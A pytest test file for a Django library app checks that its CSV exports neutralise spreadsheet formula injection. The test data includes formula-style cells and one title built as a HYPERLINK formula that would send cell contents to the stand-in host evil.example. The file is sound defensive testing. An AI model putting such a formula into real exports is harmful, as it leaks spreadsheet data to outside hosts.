"""CSV formula injection (issue 14, finding 4): every export writes through
core.csv, which defuses cells a spreadsheet would run as a formula."""

import ast
from pathlib import Path

import pytest
from django.utils import timezone

from core.csv import csv_cell
from tests.collection.conftest import add_items
from tests.factories import TitleFactory

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://x\",\"klik\")", "'=HYPERLINK(\"http://x\",\"klik\")"),
    ("+31 6 1234", "'+31 6 1234"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"),
    ("\rcmd", "'\rcmd"),
    ("De avonden", "De avonden"),
    (-250, "-250"),
    (None, ""),
])
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value, written):
    assert csv_cell(value) == written


def test_the_weeding_export_defuses_a_title_imported_as_a_formula(client, libraries, staff, alpha_branches):
    title = TitleFactory(title='=HYPERLINK("http://evil.example/?"&A1,"Oud boek")', contributors_text="@Reve")
    add_items(libraries.alpha, staff.alpha_collection, title, alpha_branches[0], ["OLDCSV001"],
              acquired_on=timezone.localdate().replace(year=2015))
    client.force_login(staff.alpha_collection)
    response = client.get("/collectie/wieden/", {"months": 12, "formaat": "csv"}, HTTP_HOST="alpha.localhost")
    body = b"".join(response.streaming_content).decode()
    row = [line for line in body.splitlines() if "OLDCSV001" in line][0].split(";")
    assert row[4] == '"\'=HYPERLINK(""http://evil.example/?""&A1,""Oud boek"")"'
    assert row[5] == "'@Reve"
    assert response["Cache-Control"] == "no-store"


def test_every_csv_export_writes_through_core_csv():
    """No module but core/csv.py makes a csv writer: a new export uses the helper."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "bench", "var"} or relative == Path("core/csv.py"):
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"} \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{relative}:{node.lineno}")
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and "text/csv" in node.value:
                offenders.append(f"{relative}:{node.lineno} (a CSV response made by hand)")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" \
                    and any(alias.name in {"writer", "DictWriter"} for alias in node.names):
                offenders.append(f"{relative}:{node.lineno}")
    assert offenders == [], f"CSV written outside core.csv (use core.csv.csv_response): {offenders}"
